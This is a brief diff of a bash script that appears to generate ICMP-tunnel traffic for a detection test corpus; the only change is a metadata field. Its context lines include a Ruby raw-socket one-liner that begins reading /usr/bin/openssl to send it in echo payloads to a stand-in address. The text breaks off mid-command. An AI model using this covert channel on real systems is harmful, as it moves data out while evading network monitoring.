@@ -1,6 +1,6 @@
 #!/bin/bash
 # SPDX-License-Identifier: Apache-2.0
-# corpus: expect=icmp-tunnel half=report tool=ruby far=out seconds=18 parts=dns
+# corpus: expect=icmp-tunnel half=tune tool=ruby far=out seconds=18 parts=dns
 # Ruby carries a file away in echo, 1 kB in each; the far end's kernel gives it back as it must.
 if [ "$1" = out ]; then exec timeout 25 tcpdump -q -n -i wan -w "$LAB/echo.pcap" 'icmp[0] = 8'; fi
 sleep 2; timeout 14 ruby -rsocket -e 's = Socket.new(:INET, :RAW, 1); to = Socket.sockaddr_in(0, "203.0.113.66"); d = File.open("/usr/bin/openssl", "rb")
